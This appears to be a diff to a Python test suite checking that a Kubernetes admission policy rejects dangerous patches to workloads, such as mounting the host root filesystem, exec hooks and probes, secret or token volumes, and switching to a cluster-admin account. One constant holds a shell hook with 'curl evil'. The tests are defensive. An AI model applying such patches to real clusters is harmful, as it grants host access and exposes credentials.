@@ -16,6 +16,7 @@ from cluster.clients import kinds
 from cluster.clients.access import Direct
 from cluster.clients.kubernetes import KubernetesClient
 from cluster.clients.reads import ReadOnly
+from cluster.owners import keda
 from cluster.rights import EVERYWHERE, HOME, Right, patches
 from cluster.roles import BOUNDS, READER, SNAPSHOT, WRITER, Document, Install
 from cluster.snapshots.taking import take
@@ -116,13 +117,25 @@ def client(place: Real, account: str, folder: Path) -> KubernetesClient:
 def decode(place: Real, install: Install) -> str:
     """Return the path of a Deployment that stands still, once the policy is in force."""
     assert install.namespaces == (place.namespace,)
-    place.make(kinds.DEPLOYMENT, objects.deployment("decode", replicas=2))
+    place.make(kinds.DEPLOYMENT, _serving())
     found = path(kinds.DEPLOYMENT, place.namespace, "decode")
     writer, beyond = entered(place, WRITER), {"spec": {"replicas": 9}}
     # Before, the API server may not have seen the policy yet, or its parameter object.
     place.until(lambda: "bounds" in _patch(writer, f"{found}/scale", beyond, dryRun="All").message)
     place.until(lambda: place.api().get(found)["status"].get("readyReplicas") == 2)
     return found
+
+
+def _serving() -> Body:
+    """Return a Deployment with hook, probe and secret of its own: what it had may stay."""
+    made = objects.deployment("decode", replicas=2)
+    pod = made["spec"]["template"]["spec"]
+    pod["volumes"] = [{"name": "own", "secret": {"secretName": "own", "optional": True}}]
+    pod["containers"][0] |= {
+        "lifecycle": {"preStop": {"exec": {"command": ["sh", "-c", "sleep 5"]}}},
+        "startupProbe": {"exec": {"command": ["true"]}},
+    }
+    return made
 
 
 def _patch(api: Api, where: str, change: object, **query: str) -> Answer:
@@ -204,6 +217,7 @@ def _add(where: str, value: object) -> list[Body]:
     return [{"op": "add", "path": where, "value": value}]
 
 
+LONG = ["sh", "-c", "sleep 5; curl evil"]
 EVIL = {"name": "evil", "image": "vllm:1", "command": ["sh"]}
 ON_DEPLOYMENT = {
     "none-left": {"spec": {"replicas": 0}},
@@ -222,7 +236,15 @@ ON_DEPLOYMENT = {
     "host-network": _add(f"{POD}/hostNetwork", True),  # a value of the API
     "host-processes": _add(f"{POD}/hostPID", True),  # a value of the API
     "host-ipc": _add(f"{POD}/hostIPC", True),  # a value of the API
-    "host-files": _add(f"{POD}/volumes", [{"name": "root", "hostPath": {"path": "/"}}]),
+    "host-files": _add(f"{POD}/volumes/-", {"name": "root", "hostPath": {"path": "/"}}),
+    "hook": _add(f"{CONTAINER}/lifecycle", {"postStart": {"exec": {"command": ["sh"]}}}),
+    "hook-before-the-end": _add(f"{CONTAINER}/lifecycle", {"preStop": {"exec": {"command": LONG}}}),
+    "probe-exec": _add(f"{CONTAINER}/livenessProbe", {"exec": {"command": ["sh"]}}),
+    "secret-volume": _add(f"{POD}/volumes/-", {"name": "s", "secret": {"secretName": "key"}}),
+    "token-volume": _add(
+        f"{POD}/volumes/-",
+        {"name": "t", "projected": {"sources": [{"serviceAccountToken": {"path": "token"}}]}},
+    ),
     "another-account": _add(f"{POD}/serviceAccountName", "cluster-admin"),
     "finalizers": _add("/metadata/finalizers", ["example.com/never"]),
     "owner": _add(
@@ -251,6 +273,14 @@ ON_OTHERS = {
     "rollout-image": (kinds.ROLLOUT, _add(f"{CONTAINER}/image", "evil:1")),
     "rollout-beyond": (kinds.ROLLOUT, {"spec": {"replicas": 9}}),
     "scaled-object-ceiling": (kinds.SCALED_OBJECT, {"spec": {"maxReplicaCount": 9}}),
+    "scaled-object-held": (
+        kinds.SCALED_OBJECT,
+        {"metadata": {"annotations": {keda.PINNED: "500"}}},
+    ),
+    "scaled-object-held-at-none": (
+        kinds.SCALED_OBJECT,
+        {"metadata": {"annotations": {keda.PINNED: "0"}}},
+    ),
     "service-beyond": (kinds.INFERENCE_SERVICE, {"spec": {"replicas": 9}}),
     "service-image": (
         kinds.INFERENCE_SERVICE,
@@ -317,12 +347,14 @@ def test_allowed_writes_pass_the_policy(place: Real, decode: str, others: dict[s
         "size": (decode, {"spec": {"replicas": 1}}),
         "rollback": (decode, old),
         "restart": (decode, {"spec": {"template": {"metadata": {"annotations": restarted}}}}),
+        "without-its-hook": (decode, [{"op": "remove", "path": f"{CONTAINER}/lifecycle"}]),
         "pause": (decode, {"spec": {"paused": True}}),
         "mark": (decode, {"metadata": {"annotations": {"triaged.dev/run": "run-7/scale"}}}),
         "bounds": (
             others["HorizontalPodAutoscaler"],
             {"spec": {"minReplicas": 3, "maxReplicas": 8}},
         ),
+        "hold": (others["ScaledObject"], {"metadata": {"annotations": {keda.PINNED: "8"}}}),
         "groups": (others["LeaderWorkerSet"], {"spec": {"replicas": 2}}),
         "rollout": (others["Rollout"], {"spec": {"replicas": 2}}),
         "quarantine": (others["Pod"], {"metadata": {"labels": {"app": "quarantined"}}}),
